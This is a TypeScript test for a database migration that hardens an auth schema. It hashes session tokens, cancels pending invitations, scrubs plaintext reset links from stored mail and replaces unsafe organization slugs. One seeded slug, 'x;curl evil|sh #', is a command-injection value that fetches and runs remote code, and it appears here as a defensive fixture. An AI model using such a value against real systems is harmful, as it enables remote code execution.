import { createHash } from 'node:crypto';
import { Upgrade } from './upgrade.testing.js';

let upgrade: Upgrade;
beforeAll(async () => (upgrade = await Upgrade.create()));
afterAll(async () => await upgrade.drop());

it('closes what a release before had left open, and keeps everybody signed in', async () => {
  await upgrade.to('CloseDoors');
  const { database } = upgrade;
  const all = async (text: string): Promise<unknown[]> => await upgrade.all(text);
  await database.query(`
    INSERT INTO auth."user" (id, name, email, "emailVerified", "createdAt", "updatedAt") VALUES ('ana', 'Ana', 'ana@example.com', false, now(), now());
    INSERT INTO auth.organization (id, name, slug, metadata, "createdAt") VALUES
      ('fine', 'Fine', 'fine-1', NULL, now()), ('shell', 'Shell', 'x;curl evil|sh #', '{"a":1}', now());
    INSERT INTO auth.session (id, token, "userId", "expiresAt", "createdAt", "updatedAt") VALUES ('s', 'a session of ana', 'ana', now() + interval '1 day', now(), now());
    INSERT INTO auth.verification (id, identifier, value, "expiresAt", "createdAt", "updatedAt") VALUES ('v', 'reset-password:plain', 'ana', now() + interval '1 hour', now(), now());
    INSERT INTO auth.invitation (id, "organizationId", email, role, status, "expiresAt", "inviterId", "createdAt") VALUES
      ('open', 'fine', 'ben@example.com', 'viewer', 'pending', now() + interval '1 day', 'ana', now()),
      ('done', 'fine', 'eve@example.com', 'viewer', 'accepted', now() + interval '1 day', 'ana', now());
    INSERT INTO mail (id, recipient, subject, text) VALUES
      (gen_random_uuid(), 'ana@example.com', 'Reset', 'Open http://localhost:3000/reset-password?token=plain today'),
      (gen_random_uuid(), 'ana@example.com', 'News', 'Look at http://localhost:3000/projects/1');
  `);

  await upgrade.to();

  expect(await all(`SELECT token FROM auth.session`)).toEqual([{ token: createHash('sha256').update('a session of ana').digest('hex') }]);
  expect(await all(`SELECT 1 FROM auth.verification`)).toEqual([]);
  expect(await all(`SELECT id, status FROM auth.invitation ORDER BY id`)).toEqual([
    { id: 'done', status: 'accepted' },
    { id: 'open', status: 'canceled' },
  ]);
  expect(await all(`SELECT id, slug, metadata FROM auth.organization ORDER BY id`)).toEqual([
    { id: 'fine', slug: 'fine-1', metadata: null },
    { id: 'shell', slug: expect.stringMatching(/^organization-[0-9a-f]{8}$/) as string, metadata: null },
  ]);
  expect(await all(`SELECT text FROM mail ORDER BY subject DESC`)).toEqual([
    { text: 'Open (this link was used, or its time is over) today' },
    { text: 'Look at http://localhost:3000/projects/1' },
  ]);
  expect(await all(`SELECT 1 FROM auth.server_administrator`)).toEqual([]);
  await expect(database.query(`UPDATE auth.organization SET slug = 'a b'`)).rejects.toThrow('organization_slug_shape');
});
